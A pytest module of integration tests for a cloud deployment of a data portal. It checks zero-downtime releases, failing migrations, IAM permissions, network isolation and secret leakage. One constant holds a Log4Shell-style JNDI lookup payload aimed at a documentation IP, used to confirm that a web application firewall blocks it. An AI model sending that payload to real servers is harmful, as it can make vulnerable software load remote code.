"""An environment's cluster, API, frontend and site, brought up by the engine and asked as a browser asks them, while
its settings change: viewers ask all the time, and no request of theirs may fail."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests

from components import names
from composition.services import DATABASE_PORT
from examples.api.app import BODY_BYTES
from localcloud.server import registry
from localcloud.server.connections import Connection, NotAnswered
from localcloud.server.wire import HttpRequest
from tests.journey.conftest import Cloud, new_project, printed
from tests.journey.databases import secret, value
from tests.journey.serving import (
    Edit,
    Images,
    Printed,
    Settings,
    Site,
    cluster,
    own_file,
    served,
    service,
    serving_alone,
    tags,
)
from tests.journey.test_cdn import ask
from tests.journey.watching import Viewers
from tests.journey.ways import Ways
from tests.localcloud.batch_steps import time_scale, until

SCALE = 0.1
"""Real seconds for one of AWS's."""
PATIENCE_SECONDS = 150
REPOSITORY = "908710317728.dkr.ecr.us-west-2.amazonaws.com/core-platform/cryoet-data-portal-backend/apiv2/apiv2"
VERSION = "SELECT version_num FROM alembic_version"
SERVICES = ("api", "frontend")
NAME, NEXT = 'NAME = "CryoET Data Portal"', 'NAME = "The second release"'


def comment(revision: str, after: str, table: str) -> str:
    """A migration."""
    return f"""
from alembic import op
revision, down_revision = "{revision}", "{after}"
def upgrade() -> None:
    op.execute("COMMENT ON TABLE {table} IS 'of a later release'")
"""


SECOND, FAILING = {"0002": comment("0002", "0001", "datasets")}, {"0003": comment("0003", "0002", "datasetz")}


@pytest.fixture(scope="module")
def site(cloud: Cloud, initialised: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """Dev, once what serves it is up."""
    folder = tmp_path_factory.mktemp("services")
    project = new_project(cloud, initialised, folder, Printed)
    builds = Images(folder / "images")
    project.change("dev", serving_alone)
    with time_scale(SCALE):
        project.up("dev")
        yield Site(project, cloud, builds, Viewers(cloud, project.outputs("dev")["sites"]["dev"]["domain"]))


def test_pages_and_api_are_one_site_with_the_headers_that_protect_its_readers(site: Site, cloud: Cloud) -> None:
    status, headers, page = ask(cloud, site.viewers.domain, "/")
    assert (status, headers["content-type"]) == (200, "text/html; charset=utf-8")
    assert b"0 datasets" in page, "the database is empty, and its migrations have run"
    assert headers["strict-transport-security"] == "max-age=31536000"
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "strict-origin-when-cross-origin"
    assert headers["content-security-policy"].startswith("default-src 'self'; connect-src 'self' http")


QUERY, MUTATION = b'{"query": "{ datasetsCount }"}', b'{"query": "mutation { datasetsCount }"}'


@pytest.mark.parametrize(
    ("method", "path", "body", "status", "says"),
    [
        ("GET", "/graphql?query=%7BdatasetsCount%7D", b"", 200, b'{"data": {"datasetsCount": 0}}'),
        ("POST", "/graphql", QUERY, 200, b'{"data": {"datasetsCount": 0}}'),
        ("POST", "/graphql", MUTATION, 405, b"this API is read only"),
        ("GET", "/graphql?query=mutation%7BdatasetsCount%7D", b"", 405, b"this API is read only"),
        pytest.param(
            "POST", "/graphql", QUERY.ljust(BODY_BYTES + 1), 413, b"the body may have 65536 bytes", id="a long body"
        ),
        ("PUT", "/graphql", QUERY, 405, b"this method is not allowed here"),
        ("DELETE", "/graphql", b"", 405, b"this method is not allowed here"),
        ("POST", "/", b"", 403, b""),
        ("DELETE", "/build/x", b"", 403, b""),
    ],
)
def test_the_api_answers_queries_and_nothing_else(
    site: Site, cloud: Cloud, method: str, path: str, body: bytes, status: int, says: bytes
) -> None:
    headers = {"Content-Type": "application/json"} if body else {}
    answer = ask(cloud, site.viewers.domain, path, method, body, **headers)
    assert answer[0] == status, answer
    assert says in answer[2], answer


def test_the_load_balancer_is_cloudfronts_alone(site: Site, cloud: Cloud) -> None:
    """From outside there is no way to it; within the network it lets nobody else in, a pod neither."""
    [balancer] = cloud.client("elbv2").describe_load_balancers()["LoadBalancers"]
    host = balancer["DNSName"]
    outside = requests.get(cloud.http_url, headers={"Host": host}, timeout=10)
    assert (outside.status_code, "no route to an internal load balancer" in outside.text) == (504, True)
    pod = Ways(cloud).pod(next(iter(site.pods("frontend").values())))
    for address, groups in ((pod.addresses[0], frozenset(pod.groups)), ("203.0.113.7", frozenset[str]())):
        connection = Connection(host=host, port=80, secure=False, address=address, groups=groups)
        with pytest.raises(NotAnswered):
            registry.forwarded(connection, HttpRequest(method="GET", target="/", headers={"host": host}))


def test_a_release_rolls_out_without_a_failed_request(site: Site, cloud: Cloud) -> None:
    before = site.running()
    site.images.build("v1.1.0", ("site/layout.py", NAME, NEXT), migrations=SECOND)
    assert site.planned(tags(api="v1.1.0", frontend="v1.1.0")) == {
        "dev-api-migration": "create",  # after the one before
        "dev-api-deployment": "update",
        "dev-frontend-deployment": "update",
    }
    with site.viewers.asking():
        site.up()
        until(lambda: not before & site.running(), PATIENCE_SECONDS)
    assert "The second release" in site.page()
    assert value(cloud, "dev", VERSION) == "0002"


def test_other_ports_roll_out_with_another_release_without_a_failed_request(site: Site) -> None:
    """While they do, pods of two releases listen on two ports. The ports before are closed by the next update."""
    before = site.running()
    site.images.build("v1.1.1", migrations=SECOND)
    others = (service("api", port=9100), service("frontend", port=8100), tags(api="v1.1.1", frontend="v1.1.1"))
    assert site.planned(*others) == {
        "dev-api-from-balancer-9100": "create",
        "dev-frontend-from-balancer-8100": "create",
        "dev-api-migration": "create",  # after the one before
        "dev-api-deployment": "update",
        "dev-frontend-deployment": "update",
    }
    with site.viewers.asking():
        site.up()
        until(lambda: not before & site.running(), PATIENCE_SECONDS)
        assert site.planned() == {"dev-api-from-balancer-9009": "delete", "dev-frontend-from-balancer-8080": "delete"}
        site.up()
    assert {name: site.port(name) for name in SERVICES} == {"api": 9100, "frontend": 8100}


def test_releases_that_do_not_start_say_why_and_no_viewer_notices(site: Site, cloud: Cloud) -> None:
    """A program that ends at once, an image that isn't there, and a migration that fails; then what ran before."""
    before, schema, current = site.ready(), value(cloud, "dev", VERSION), site.tags()
    site.images.build_frontend_that_ends("v1.2.0", "no configuration")
    site.images.build("v1.3.0", migrations=SECOND | FAILING)
    missing = f'failed to pull and unpack image "{REPOSITORY}:v1.2.0"'
    with site.viewers.asking():
        site.up_that_fails(tags(api="v1.2.0", frontend="v1.2.0"), says=("no configuration", missing))
        site.up_that_fails(tags(**current | {"api": "v1.3.0"}), says=('relation "datasetz" does not exist',))
        site.up(tags(**current))
        assert before <= site.ready()
    assert value(cloud, "dev", VERSION) == schema


def test_pods_without_a_right_say_so_and_memory_is_changed_without_a_failed_request(site: Site, cloud: Cloud) -> None:
    """The API's is the only role of a pod: its right to read one secret."""
    iam, role, eks = cloud.client("iam"), names.service_role("dev", "api"), cloud.client("eks")
    associations = eks.list_pod_identity_associations(clusterName=names.CLUSTER)["associations"]
    assert [(one["namespace"], one["serviceAccount"]) for one in associations] == [("dev", "api")]
    size = {"cpu_millis": 500, "memory_mib": 640, "cpu_limit_millis": 3000, "memory_limit_mib": 2048}
    assert site.planned(service("api", resources=size)) == {"dev-api-deployment": "update"}
    [policy] = iam.list_role_policies(RoleName=role)["PolicyNames"]
    right = json.dumps(iam.get_role_policy(RoleName=role, PolicyName=policy)["PolicyDocument"])
    with site.viewers.asking():
        iam.delete_role_policy(RoleName=role, PolicyName=policy)
        site.up_that_fails(says=("is not authorized to perform: secretsmanager:GetSecretValue",))
        iam.put_role_policy(RoleName=role, PolicyName=policy, PolicyDocument=right)
        site.up()
    for pod in site.pods("api").values():
        [api] = [one for one in pod["spec"]["containers"] if one["name"] == "api"]
        assert api["resources"]["limits"]["memory"] == "2Gi"


def test_pods_machines_and_version_change_without_a_failed_request(site: Site, cloud: Cloud) -> None:
    """More pods beside those that serve; then another disk for the machines, by their class alone, and last other
    machines and the next version: each time every pod is moved."""
    pods, eks = site.ready(), cloud.client("eks")

    def version() -> str:
        return str(eks.describe_cluster(name=names.CLUSTER)["cluster"]["version"])

    assert site.planned(service("api", replicas=2), service("frontend", replicas=2, max_replicas=3)) == {
        "dev-api-autoscaler": "update",
        "dev-frontend-autoscaler": "update",
    }
    with site.viewers.asking():
        site.up()
        until(lambda: len(site.ready()) >= 4, PATIENCE_SECONDS)
        assert pods < site.ready()
        machines = site.machines()
        assert site.planned(cluster(disk_gib=120)) == {"shared-node-class": "update", "dev-node-class": "update"}
        site.up()
        until(lambda: not machines & site.machines() and len(site.ready()) >= 4, PATIENCE_SECONDS)
        bigger = site.machines()
        site.project.change("dev", cluster(version="1.36"))
        refused = site.project.refused("dev", "up", "--yes", "--skip-preview").stdout
        assert "cluster.version: '1.36': the cluster has 1.34: one minor version at a time; 1.35 first" in refused
        assert version() == "1.34"
        assert site.planned(cluster(version="1.35", capacity_types=["on-demand", "spot"])) == {
            "cluster-eksCluster": "update",
            "shared-node-pool": "update",
            "dev-node-pool": "update",
        }
        site.up()
        assert version() == "1.35"
        until(lambda: not bigger & site.machines() and len(site.ready()) >= 4, PATIENCE_SECONDS)


def test_a_running_site_is_given_a_host_name_and_loses_it_without_a_failed_request(site: Site, cloud: Cloud) -> None:
    """CloudFront comes by another VPC origin and another listener, made beside those that it comes by until then."""
    zone = cloud.client("route53").create_hosted_zone(Name="example.net", CallerReference="given")["HostedZone"]["Id"]
    cloudfront, elb = cloud.client("cloudfront"), cloud.client("elbv2")

    def ways() -> tuple[list[str], list[int]]:
        """The VPC origins, and the ports of listeners."""
        [balancer] = elb.describe_load_balancers()["LoadBalancers"]
        listeners = elb.describe_listeners(LoadBalancerArn=balancer["LoadBalancerArn"])["Listeners"]
        origins = cloudfront.list_vpc_origins()["VpcOriginList"]["Items"]
        return [one["Id"] for one in origins], [one["Port"] for one in listeners]

    before = ways()
    hosts = {"hosts": ["dev.example.net"], "zone_id": zone.rpartition("/")[2]}
    with site.viewers.asking(VIEWERS):
        site.up(service("site", **hosts))
        given = ways()
        assert ask(cloud, "dev.example.net", "/")[0] == 200
        site.up(lambda settings: settings["environments"]["dev"].update(site=own_file()["environments"]["dev"]["site"]))
    print(f"{site.viewers.rate:.0f} requests a second, none failed")
    assert [ports for _, ports in (before, given, ways())] == [[80], [443], [80]]
    assert not {*before[0]} & {*given[0]}
    site.project.pulumi("dev", "preview", "--expect-no-changes")


VIEWERS = 20
"""Of pages, and as many of the API: as fast as they are answered, at most 400 requests a second."""


def test_an_environment_comes_and_goes_as_the_guide_says(site: Site, cloud: Cloud) -> None:
    """With a host name of its own, and AWS's rules before it."""
    zone = cloud.client("route53").create_hosted_zone(Name="example.org", CallerReference="site")["HostedZone"]["Id"]
    by_host = {"hosts": [HOST], "zone_id": zone.rpartition("/")[2], "managed_rules": True}

    def portal(command: str) -> None:
        variables = {"PORTAL_PROJECT": str(site.project.folder)}
        done = site.project.run("portal", command, "--yes", "dev", env=variables)
        assert done.returncode == 0, printed(done)

    def changed(edit: Edit, *commands: str) -> None:
        site.project.change("dev", edit)
        for command in commands:
            portal(command)

    def retired(settings: Settings) -> None:
        staging = settings["environments"]["staging"]
        staging["retire"] = staging["database"]["retire"] = True

    with site.viewers.asking():
        with site.processes.watched():
            changed(
                lambda settings: settings["environments"].update(staging=served("staging") | {"site": by_host}),
                "bootstrap",
                "up",
            )
        answers_by_its_host(cloud)
        environments_are_apart(site, cloud)
        passwords_are_nowhere(site, cloud)
        changed(retired, "up")
        changed(lambda settings: settings["environments"].pop("staging"), "up", "bootstrap")
    assert site.pods("api", "staging") == {}
    assert ask(cloud, HOST, "/")[0] != 200


HOST = "staging.example.org"
ATTACK = "/?q=$%7Bjndi:ldap://192.0.2.1/x%7D"


def answers_by_its_host(cloud: Cloud) -> None:
    """Over TLS from CloudFront to the load balancer too, by its certificate; attacks that AWS knows are refused."""
    status, _, page = ask(cloud, HOST, "/")
    assert (status, b"0 datasets" in page) == (200, True), page
    assert ask(cloud, HOST, ATTACK)[0] == 403
    elb, acm = cloud.client("elbv2"), cloud.client("acm")
    listeners = [
        one
        for balancer in elb.describe_load_balancers()["LoadBalancers"]
        for one in elb.describe_listeners(LoadBalancerArn=balancer["LoadBalancerArn"])["Listeners"]
    ]
    assert sorted((one["Port"], one["Protocol"]) for one in listeners) == [(80, "HTTP"), (443, "HTTPS")]
    [secure] = [one for one in listeners if one["Port"] == 443]
    certificate = acm.describe_certificate(CertificateArn=secure["Certificates"][0]["CertificateArn"])["Certificate"]
    assert (certificate["DomainName"], certificate["Status"]) == (HOST, "ISSUED")


def environments_are_apart(site: Site, cloud: Cloud) -> None:
    """Each one's pods reach its own database, its load balancer its own pods, and nobody the other's."""
    ways, others = Ways(cloud), {"dev": "staging", "staging": "dev"}
    pods = {(one, name): ways.pod(next(iter(site.pods(name, one).values()))) for one in others for name in SERVICES}
    for one, other in others.items():
        database, balancer = ways.database(names.database_cluster(one)), ways.load_balancer(one)
        strangers = {
            "api": pods[other, "api"],
            "frontend": pods[other, "frontend"],
            "load balancer": ways.load_balancer(other),
        }
        assert ways.is_open(pods[one, "api"], database, DATABASE_PORT)
        assert not ways.is_open(pods[one, "frontend"], database, DATABASE_PORT)
        assert not ways.is_open(pods[one, "frontend"], pods[one, "api"], site.port("api", one)), (
            "it asks the site's URL"
        )
        for name in SERVICES:
            port = site.port(name, one)
            assert ways.is_open(balancer, pods[one, name], port)
            assert [who for who, place in strangers.items() if ways.is_open(place, pods[one, name], port)] == []
        assert [who for who, place in strangers.items() if ways.is_open(place, database, DATABASE_PORT)] == []


def passwords_are_nowhere(site: Site, cloud: Cloud) -> None:
    """Where somebody looks who may not read the secrets; a process's variables are its user's alone. A second update
    would change nothing."""
    passwords = [secret(cloud, one)["password"] for one in ("dev", "staging")]
    site.project.pulumi("dev", "stack", "export")
    options = ("--expect-no-changes", "--diff", "--debug", "--show-secrets")
    site.project.pulumi("dev", "preview", *options, env={"PORTAL_DEBUG": "1"})
    objects, logs = site.objects_and_logs()
    places = {"objects": objects, "logs": logs, "printed": site.project.printed, "command lines": site.processes.lines}
    shown = {where: "\n".join(texts) for where, texts in places.items()}
    assert "alembic upgrade head" in shown["command lines"], "what is looked at has the pods"
    assert "Application startup complete." in shown["logs"], "what is looked at has the pods"
    assert [where for where, text in shown.items() for one in passwords if one in text] == []
    variables = [Path(f"/proc/{one}/environ") for one in site.processes_of("api")]
    assert all(passwords[0].encode() in one.read_bytes() for one in variables)
    assert {one.stat().st_mode & 0o077 for one in variables} == {0}
